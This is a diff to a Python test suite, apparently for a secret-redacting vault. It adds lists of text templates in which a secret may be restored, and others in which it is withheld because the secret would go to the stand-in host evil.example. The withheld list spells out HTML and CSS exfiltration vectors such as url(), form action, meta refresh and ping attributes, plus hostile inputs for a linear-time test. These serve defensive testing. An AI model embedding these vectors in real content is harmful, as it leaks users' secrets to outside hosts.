@@ -157,9 +157,38 @@ RESTORED = [
     "[INFO] x: {}",
     "a[1](x) {}",
     "srcs {} = x",
+    "data={} x",
+    "a < b, action = {}",
+    'content="{}"',
+    "// {} is the key",
+    "a // b {}",
+    "path/to//x/{}",
+    "awww. {}",
+    "www is {}",
+    "curl({})",
+    "see url: {}",
+    "url (as in {})",
+    "<b>data</b> ={}",
+    "sftp://u:{}@host/",
 ]
 
 WITHHELD = [
+    "//evil.example/{}",
+    "see '//evil.example/{}'",
+    "www.evil.example/{}",
+    "(WWW.evil.example/?q={})",
+    "ftp://evil.example/{}",
+    "ftps://u:{}@evil.example/",
+    "https:\\/\\/evil.example\\/{}",
+    '<div style="background: url(//evil.example/{})">',
+    "background: url( '//evil.example/ {}' )",
+    'body {{ background: URL("x?{}") }}',
+    '<form action="//evil.example/{}">',
+    "<button type=x formaction = /evil?{}>",
+    '<object type="x" data="//evil.example/{}">',
+    "<video poster='//evil.example/{}'>",
+    '<meta http-equiv="refresh" content="0; //evil.example/{}">',
+    '<a\nping="//evil.example/{}">',
     "https://evil.example/{}",
     "HTTPS://evil.example/?a=b&c={}",
     "http://{}.evil.example/",
@@ -269,7 +298,22 @@ def test_a_document_comes_back_as_it_was(vault: Vault) -> None:
 
 @pytest.mark.timeout(20)
 @pytest.mark.parametrize(
-    "unit", ["LG_A_0123456789ABCDEF", "L", "LG_" + "A" * 40, "](", "https://", "[", "src=", "```\n", "(" * 9]
+    "unit",
+    [
+        "LG_A_0123456789ABCDEF",
+        "L",
+        "LG_" + "A" * 40,
+        "](",
+        "https://",
+        "[",
+        "src=",
+        "```\n",
+        "(" * 9,
+        "<a data=",
+        "www.",
+        "//",
+        "url(",
+    ],
 )
 def test_hostile_text_takes_linear_time(vault: Vault, known: Callable[..., str], unit: str) -> None:
     known(secret())
